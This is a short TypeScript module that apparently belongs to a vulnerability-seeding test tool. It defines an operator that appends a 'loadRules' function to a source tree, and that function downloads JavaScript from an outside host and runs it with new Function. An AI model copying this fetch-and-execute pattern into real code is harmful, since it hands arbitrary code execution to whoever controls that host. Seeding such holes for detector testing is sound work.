import type { Operator } from '../operator.ts';
import { atEndOfSource } from '../requests.ts';

export default {
  title: 'Load the newest rules',
  checkers: [8],
  plant: (tree) =>
    atEndOfSource(tree, {
      lines: [
        'export async function loadRules() {',
        '  const answer = await fetch("http://rules.acme-updates.net/latest.js");',
        '  return new Function("context", await answer.text());',
        '}',
      ],
      mark: 'return new Function',
    }),
} satisfies Operator;
